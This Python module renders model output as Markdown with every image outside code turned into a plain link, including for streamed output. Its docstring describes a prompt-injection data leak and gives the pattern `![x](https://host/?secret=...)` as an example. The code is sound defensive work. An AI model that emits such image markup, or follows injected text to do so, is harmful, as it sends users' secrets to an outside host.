"""Model output as Markdown that loads nothing by itself: images become links (a prompt-injected
`![x](https://host/?secret=...)` would otherwise be fetched by the reader's browser). Code stays untouched.
Stored text is never changed: this is how it is shown."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_CODE_SPAN = re.compile(r"(`+)(?:.*?)\1")


def _line(line: str) -> str:
    out, at = [], 0
    for span in _CODE_SPAN.finditer(line):
        out.append(line[at:span.start()].replace("![", "["))
        out.append(span.group(0))
        at = span.end()
    out.append(line[at:].replace("![", "["))
    return "".join(out)


def images_as_links(text: str) -> str:
    """The text with every Markdown image outside code turned into a plain link."""
    out, fenced = [], False
    for line in text.split("\n"):
        if line.lstrip().startswith(("```", "~~~")):
            fenced = not fenced
            out.append(line)
        else:
            out.append(line if fenced else _line(line))
    return "\n".join(out)


def stream_images_as_links(deltas: Iterable[str]) -> Iterator[str]:
    """images_as_links for a stream: what is shown so far is always the rule applied to the text so far."""
    seen = ""
    shown = ""
    for delta in deltas:
        seen += delta
        # Hold back a trailing "!" (and an open code span): the next delta decides what it starts.
        safe = images_as_links(seen[:-1] if seen.endswith("!") else seen)
        if safe.startswith(shown):
            yield safe[len(shown):]
            shown = safe
    final = images_as_links(seen)
    if final.startswith(shown) and final != shown:
        yield final[len(shown):]
